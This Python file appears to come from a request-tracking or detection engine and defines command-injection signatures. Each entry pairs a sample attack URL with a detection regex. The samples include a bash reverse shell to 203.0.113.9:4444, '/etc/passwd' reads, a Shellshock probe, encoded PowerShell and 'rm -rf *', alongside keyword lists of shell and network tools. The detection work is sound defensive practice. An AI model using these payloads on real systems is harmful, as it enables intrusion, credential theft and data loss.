"""Commands of a shell behind the end of a value."""

from __future__ import annotations

from tracking.engine.families import COMMAND_INJECTION
from tracking.engine.payloads.payload import NAMED, START, Payload

# No sentence goes on with these; with the others it may, so they need an argument of their own.
_TELLING = (
    r"(?:whoami|ifconfig|ipconfig|uname|netstat|printenv|nslookup|systeminfo|getent|certutil"
    r"|cmd\.exe|mshta|iwmi)"
)
_FETCHING = r"(?:wget|curl|lynx|tftp|fetch|ping|sleep|iwr|invoke-webrequest)"
_COMMAND = (
    r"(?:cat|tac|nl|head|tail|more|less|strings|od|xxd|rev|cp|mv|rm|chmod|chown|touch|mkdir|ls"
    r"|dir|cd|grep|find|sed|awk|tar|sh|bash|zsh|ksh|dash|python[23]?|perl|php|ruby|node|nc|ncat"
    r"|netcat|socat|telnet|ssh|nohup|sudo|echo|printf|env|set|type|copy|del|cmd|expr|base64|ps"
    r"|kill|busybox|exec|powershell)"
)

COMMANDS = (
    Payload(
        COMMAND_INJECTION,
        "/?host=8.8.8.8;cat /etc/passwd",
        (";", "|", "`", "$(", "\n", "&&", "<("),
        r"(?:[;|`\n]|\$\(|&&|<\() {0,3}(?:/(?:usr/)?s?bin/)?(?:"
        rf"{_TELLING}\b(?: {{0,2}}(?:$|[;|&`)\n'\"#<>])| {{1,3}}[-/'\"$%\w:])"
        rf"|{_FETCHING} {{1,3}}(?:-|\d|['\"$]|https?:|ftp:|[\w-]{{1,64}}\.[a-z]{{2}})"
        rf"|{_COMMAND} {{1,3}}(?:-{{1,2}}[a-z]{{1,2}}\b|\+[a-z]|/[a-z*?.]|\.{{1,2}}/"
        r"|\$[a-z{(_@]|[*~]|[a-z]:\\|/$))|\| ?(?:awk ?[{'\"]|(?:ba|z|k)sh(?:$|[&;]))",
    ),
    Payload(
        COMMAND_INJECTION,
        "/?x=$(id)",
        ("$(", "`"),
        r"(?:\$\(|=`|;`|\|`|/`) {0,2}(?:id|ls|cat|env|pwd|echo|dir|whoami|hostname|ps|uname|curl"
        r"|wget|ping|sleep|nslookup|printf|expr|te|br|cmd)\b[^)`]{0,256}[)`]",
    ),
    Payload(
        COMMAND_INJECTION,
        "/?x=1;id",
        (";", "|", "`", "\n"),
        r"[;|]{1,2} ?(?:ls|pwd)[;|`#]|=[\w.]{0,32}(?:[;|] |`)(?:id|ls|env|pwd|dir)(?:$|[&;|`#])"
        r"|=[\d.]{1,16}(?:;|(?<=\.\d)\|{1,2}|\n) ?(?:id|ls|env|pwd)(?:$|&)",
    ),
    # A value that begins with the end of a command.
    Payload(
        COMMAND_INJECTION,
        "/?x=;env",
        ("=;", "=|", "=`", "=';"),
        r"=(?:'?;|\|{1,2}|`) ?(?:set|who|env|id|ls|ps|w|pwd|dir|date|htop|top|sh|cmd|arch|df)"
        r"(?:$|&| [-/+])",
    ),
    # The separator of fields stands for a space where spaces are filtered.
    Payload(COMMAND_INJECTION, "/?x=cat${IFS}x", ("ifs",), r"\$\{?ifs\b"),
    Payload(
        COMMAND_INJECTION,
        "/?x=bash -i >& /dev/tcp/203.0.113.9/4444",
        ("/dev/tcp/", "bash -i", "mkfifo", "nc", "/bin/"),
        r"/dev/tcp/\S|\bbash -i ?[>0&]|mkfifo /tmp"
        r"|\bnc(?:\.\w{1,12})? [^&]{0,48}-e ?(?:/bin|sh|cmd)"
        r"|\.\./[^&]{0,64}bin/(?:ba|z|k|c|da)?sh"
        rf"|(?:{NAMED}|[;|`(]) ?/(?:usr/)?bin/(?:ba|z|k|c|da)?sh -[ci]|[;|`] ?/bin/\w",
    ),
    Payload(
        COMMAND_INJECTION,
        "/scripts/cmd.exe?/c+dir",
        ("cmd.exe", "cmd /c", "powershell", "iex", "iwr"),
        rf"cmd\.exe\?/c|(?:{START}|[;|&\"]) ?cmd(?:\.exe)? ?/[ck] "
        r"|powershell(?:\.exe)? -(?:e|enc|nop|w|c|ep)\b|[;(|]iex ?\(|\biex ?\(iwr",
    ),
    # Shellshock: a function, and what is executed after it.
    Payload(
        COMMAND_INJECTION,
        "/?x=() { :;}; echo",
        ("() {", "(){"),
        r"\(\) ?\{ ?(?::|_) ?[;}]|(?:^|[=?&/])\(\) ?\{",
    ),
    # Names of files with holes: /???/c?t, /e??/pa??wd.
    Payload(
        COMMAND_INJECTION,
        "/?f=/e??/pa??wd",
        ("?",),
        r"[=;| ][^&=?;| ]{0,64}/[a-z]{0,3}\?{1,3}[a-z]{0,2}/[a-z?*]{0,3}\?{1,3}",
    ),
    Payload(
        COMMAND_INJECTION,
        "/?x=cat /etc/passwd",
        ("/etc/", "/proc/", "/root/", "/home/"),
        rf"{NAMED}(?:cat|tac|nl|less|more|head|tail|dd|cp|grep|rev|strings) [^&]{{0,32}}"
        r"/(?:etc/(?:passwd|shadow)|proc/[a-z]|root/|home/)|[= ]/etc/[a-z]{0,6}[\[?*]",
    ),
    Payload(
        COMMAND_INJECTION,
        "/?x=for /f %i in ('dir') do x",
        (" in (", " in("),
        r"for (?:/[dflr] )?.{0,48}%{1,2}\w{1,16} in ?\(",
    ),
    Payload(
        COMMAND_INJECTION,
        "/shell?cd+/tmp;rm+-rf+*",
        ("/shell?", "cd /tmp"),
        r"/shell\?[^=]{0,8}(?:cd|wget|curl|busybox|ls|cat) |[;|`=?] ?cd /tmp ?[;&|]",
    ),
)
